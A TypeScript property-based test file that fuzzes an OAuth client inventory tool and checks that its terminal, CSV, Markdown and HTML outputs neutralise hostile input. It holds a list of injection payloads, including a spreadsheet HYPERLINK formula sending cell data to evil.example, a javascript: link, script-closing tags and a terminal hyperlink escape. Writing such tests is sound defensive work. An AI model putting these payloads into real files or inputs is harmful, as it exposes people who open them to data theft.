import assert from 'node:assert/strict'
import { test } from 'node:test'
import fc from 'fast-check'
import { clientsAmong } from '../../cli/inventory/clients.ts'
import { type Entry, entriesOf } from '../../cli/inventory/entry.ts'
import { csvForm, markdownForm, terminalForm } from '../../cli/inventory/forms.ts'
import { pageForm } from '../../cli/inventory/page.ts'
import { clientTypes } from '../../provider/client/client_types.ts'
import { fieldNames } from '../../provider/client/fields.ts'
import { practiceIds } from '../../provider/policy/practices.ts'
import { dynamicTypeToken, pluginTypeToken } from '../../provider/pulumi/urn.ts'
import '../support/fuzzed.ts'
import { text, uri, value } from './hostile.ts'

const now = Date.UTC(2026, 0, 1) / 1000

/** What a program or a server may have put into a form that people or their tools read. */
const sharp = fc.constantFrom(
  '=HYPERLINK("http://evil.example/"&A1)',
  '+1',
  '-1',
  '@SUM(A1)',
  '\t=1',
  ' =1',
  '%0A',
  '"',
  '","',
  '|',
  '\\|',
  '`',
  '``|',
  '[a](javascript:x)',
  '![a](http://evil.example/)',
  '<b>',
  '<!--',
  ']]>',
  '</script>',
  '</style>',
  '&lt;',
  'https://evil.example',
  'www.evil.example',
  'a@evil.example',
  '\n| --- |',
  '\r\n=1',
  '\u001b]8;;http://evil.example\u0007',
  '~~~',
  '# a',
)
const name = fc.oneof(
  sharp,
  text,
  fc.tuple(sharp, text, sharp).map((parts) => parts.join('')),
)
const names = fc.array(name, { maxLength: 4 })

const recorded = fc.record(
  {
    ...Object.fromEntries(fieldNames.map((field) => [field, value])),
    clientName: name,
    clientId: name,
    clientUri: fc.oneof(uri, name),
    issuer: name,
    api: fc.constantFrom('registration', 'keycloak', 'hydra', '__proto__'),
    tokenEndpointAuthMethod: fc.oneof(fc.constantFrom('client_secret_basic', 'none'), name),
    redirectUris: fc.array(fc.oneof(uri, name), { maxLength: 4 }),
    scopes: names,
    grantTypes: fc.array(fc.oneof(fc.constantFrom('implicit', 'authorization_code', 'password'), name), {
      maxLength: 4,
    }),
    clientIdIssuedAt: fc.oneof(fc.nat(now), value),
    softwareId: fc.constantFrom('the same', '<i>'),
    clientSecret: value,
    keycloak: value,
  },
  { requiredKeys: ['clientName', 'scopes', 'grantTypes', 'redirectUris'] },
)

const types = Object.keys(clientTypes).flatMap((kind) =>
  kind === 'PublicClient' || kind === 'ConfidentialClient'
    ? [dynamicTypeToken(kind), pluginTypeToken(kind)]
    : [],
)

const resource = fc
  .tuple(fc.constantFrom(...types), name, name, name, recorded)
  .map(([type, stack, project, own, outputs]) => ({
    type,
    urn: `urn:pulumi:${stack}::${project}::${type}::${own}`,
    outputs,
  }))

const resources = fc.array(resource, { minLength: 1, maxLength: 4 })
const entries = resources.map((all) => entriesOf(clientsAmong(all), {}, now))

test('whatever is recorded and set, practices are looked at without an error, and mark by a level that there is', () => {
  const own = fc.dictionary(fc.constantFrom('issuers', 'maxDays', 'environments', 'enforcementLevel'), value)
  const settings = fc.dictionary(fc.constantFrom(...practiceIds, 'all'), fc.oneof(own, value))
  fc.assert(
    fc.property(resources, settings, (all, set) => {
      for (const { marks } of entriesOf(clientsAmong(all), set, now))
        for (const { level } of marks) assert.match(level, /^(advisory|mandatory)$/)
    }),
  )
})

// biome-ignore lint/suspicious/noControlCharactersInRegex: control characters are what is looked for
const controls = /[\x00-\x09\x0b\x0c\x0e-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]/

test('an inventory for a terminal holds no control character', () => {
  fc.assert(fc.property(entries, (all) => assert.doesNotMatch(terminalForm(all), controls)))
})

test('an inventory in CSV has a cell for each column, none of which a spreadsheet takes for a formula', () => {
  fc.assert(
    fc.property(entries, (all) => {
      const rows = csvForm(all).split('\r\n')
      assert.equal(rows.length, all.length + 1)
      const cells = rows.map((row) => [...row.matchAll(/"((?:[^"]|"")*)"(?:,|$)/g)])
      for (const [index, row] of cells.entries()) {
        assert.equal(row.length, 12)
        assert.equal(row.map(([whole]) => whole).join(''), rows[index])
        for (const [, cell = ''] of row) assert.doesNotMatch(cell, /^\s*[=+\-@|%]/)
      }
      assert.doesNotMatch(csvForm(all), controls)
    }),
  )
})

test('an inventory in Markdown is one table of text: no markup, no link, no other row', () => {
  fc.assert(
    fc.property(entries, (all) => {
      const lines = markdownForm(all).split('\n')
      assert.equal(lines.length, 2 + all.length + 2)
      for (const line of lines.slice(2, -2)) {
        const bare = line.replace(/\\[^a-z0-9\s]/gi, '').replaceAll('&amp;', '')
        assert.equal(bare.split('|').length, 10)
        assert.doesNotMatch(bare, /[`*_[\]<>()#!~&$@:]|www\./)
      }
    }),
  )
})

test('the page of an inventory has the elements and attributes of one with plain names', () => {
  fc.assert(
    fc.property(entries, (all) => {
      const page = pageForm(all, new Date(now * 1000))
      assert.deepEqual(elements(page), elements(pageForm(all.map(plain), new Date(now * 1000))))
      assert.doesNotMatch(page, controls)
    }),
  )
})

/** The same client with names that mean nothing anywhere, equal where they were equal. */
function plain(entry: Entry): Entry {
  const word = (text: string) => (text === '' ? '' : Buffer.from(text, 'utf16le').toString('hex'))
  return {
    ...entry,
    application: word(entry.application),
    project: word(entry.project),
    name: word(entry.name),
    environment: word(entry.environment),
    clientId: word(entry.clientId),
    issuer: word(entry.issuer),
    authMethod: word(entry.authMethod),
    scopes: entry.scopes.map(word),
    redirectHosts: entry.redirectHosts.map(word),
    page: entry.page === null ? null : 'https://example.com/',
    marks: entry.marks.map((mark) => ({ ...mark, property: 'x', reason: 'y' })),
  }
}

/** Each tag with the names of its attributes, how often. A tag begins where a browser's parser begins one. */
function elements(page: string): ReadonlyMap<string, number> {
  const body = page.slice(page.indexOf('<body>')).replace(/(<script>)[\s\S]*(<\/script>)/, '$1$2')
  const counts = new Map<string, number>()
  for (const [tag] of body.matchAll(/<[a-z/!?](?:[^>"]|"[^"]*")*>/gi)) {
    const shape = tag.replace(/"[^"]*"/g, '""')
    counts.set(shape, (counts.get(shape) ?? 0) + 1)
  }
  return counts
}
